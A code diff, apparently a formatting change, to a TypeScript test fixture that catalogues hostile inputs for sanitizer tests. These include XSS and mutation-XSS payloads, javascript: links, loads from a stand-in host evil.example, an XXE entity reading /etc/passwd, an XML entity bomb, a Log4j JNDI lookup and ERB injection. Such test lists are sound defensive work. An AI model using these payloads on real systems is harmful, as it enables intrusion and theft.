@@ -26,18 +26,22 @@ export const markup: readonly HostileInput[] = inputs('markup', {
   'a refresh': `<meta hostile http-equiv="refresh" content="0;url=https://evil.example/">`,
   'a policy': `<meta hostile http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
   'a style sheet': '<link hostile rel="stylesheet" href="https://evil.example/x.css">',
-  'a style': '<style hostile>* { display: none !important } @import "https://evil.example/x.css";</style>',
-  'a style attribute': '<b hostile style="position:fixed;inset:0;background:url(https://evil.example/x)">x</b>',
+  'a style':
+    '<style hostile>* { display: none !important } @import "https://evil.example/x.css";</style>',
+  'a style attribute':
+    '<b hostile style="position:fixed;inset:0;background:url(https://evil.example/x)">x</b>',
   'a form': `<form hostile action="javascript:${CANARY}"><button>Send</button></form>`,
-  'a form that takes the names of a document': '<form hostile id="body" name="cookie"><input name="attributes"></form>',
+  'a form that takes the names of a document':
+    '<form hostile id="body" name="cookie"><input name="attributes"></form>',
   'a link': `<a hostile href="javascript:${CANARY}">x</a>`,
-  'MathML': `<math hostile><maction actiontype="statusline" xlink:href="javascript:${CANARY}">x</maction></math>`,
+  MathML: `<math hostile><maction actiontype="statusline" xlink:href="javascript:${CANARY}">x</maction></math>`,
   'a mutation by noscript': `<noscript><p title="</noscript><img hostile src=x onerror=${CANARY}>">`,
   'a mutation by MathML': `<math><mtext><table><mglyph><style><!--</style><img hostile title="--&gt;&lt;img src=x onerror=${CANARY}&gt;">`,
   'a mutation by a form': `<form><math><mtext></form><form><mglyph><style></math><img hostile src onerror=${CANARY}>`,
   'a mutation by SVG': `<svg></p><style><a id="</style><img hostile src=1 onerror=${CANARY}>">`,
   'a template with a shadow root': `<div hostile><template shadowrootmode="open"><script>${CANARY}</script></template></div>`,
-  'an element of the inspector': '<ws-inspector hostile url="wss://evil.example/" autoconnect></ws-inspector>',
+  'an element of the inspector':
+    '<ws-inspector hostile url="wss://evil.example/" autoconnect></ws-inspector>',
   'an end of a text area': `</textarea><img hostile src=x onerror=${CANARY}>`,
   'an end of a title': `</title><img hostile src=x onerror=${CANARY}>`,
   'an end of a style': `</style><img hostile src=x onerror=${CANARY}>`,
@@ -46,10 +50,11 @@ export const markup: readonly HostileInput[] = inputs('markup', {
   'an end of an attribute in single quotes': `' hostile onfocus='${CANARY}' autofocus='`,
   'a comment that begins': '<!-- hostile',
   'a comment that ends': `--><img hostile src=x onerror=${CANARY}>`,
-  'CDATA': `<![CDATA[<img hostile src=x onerror=${CANARY}>]]>`,
+  CDATA: `<![CDATA[<img hostile src=x onerror=${CANARY}>]]>`,
   'a processing instruction': `<?xml-stylesheet href="javascript:${CANARY}"?>`,
-  'entities': `&lt;script hostile&gt;${CANARY}&lt;/script&gt;&#60;b&#x3e;&amp;amp;`,
-  'an XML bomb': '<!DOCTYPE a [<!ENTITY b "&c;&c;&c;"><!ENTITY c "&d;&d;&d;"><!ENTITY d "xxx">]><a>&b;</a>',
+  entities: `&lt;script hostile&gt;${CANARY}&lt;/script&gt;&#60;b&#x3e;&amp;amp;`,
+  'an XML bomb':
+    '<!DOCTYPE a [<!ENTITY b "&c;&c;&c;"><!ENTITY c "&d;&d;&d;"><!ENTITY d "xxx">]><a>&b;</a>',
   'an entity from elsewhere': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
 });
 
@@ -68,9 +73,9 @@ export const addresses: readonly HostileInput[] = inputs('address', {
   'a password': 'wss://user:pass%40word@evil.example/socket',
   'a host of look-alikes': 'wss://еxаmple.com/',
   'a host with a right-to-left override': 'wss://example.com/\u202egpj.exe',
-  'backslashes': 'wss:\\\\evil.example\\@example.com',
+  backslashes: 'wss:\\\\evil.example\\@example.com',
   'a scheme-relative one': '//evil.example/x',
-  'Markdown': `[click](javascript:${CANARY}) ![x](https://evil.example/x.png) <javascript:${CANARY}>`,
+  Markdown: `[click](javascript:${CANARY}) ![x](https://evil.example/x.png) <javascript:${CANARY}>`,
 });
 
 /** Signs of the template languages that are used here, and of some that are not. */
@@ -84,7 +89,7 @@ export const templates: readonly HostileInput[] = inputs('template', {
   'a marker of Lit': '{{lit-1234567890}} <!--lit-part--> <!--?lit$1234567890$-->',
   'a marker of Lit in an attribute': '<b hostile$lit$="{{lit-0}}">lit$000$</b>',
   'a question mark': '<?> <? ?> ?lit$',
-  'ERB': '<%= `id` %> <%- 7*7 %>',
-  'format strings': '%s%s%s%n%x%d %1$s {} {0.__class__} $& $1 $` $\' $$',
-  'Log4j': '${jndi:ldap://evil.example/a}',
+  ERB: '<%= `id` %> <%- 7*7 %>',
+  'format strings': "%s%s%s%n%x%d %1$s {} {0.__class__} $& $1 $` $' $$",
+  Log4j: '${jndi:ldap://evil.example/a}',
 });
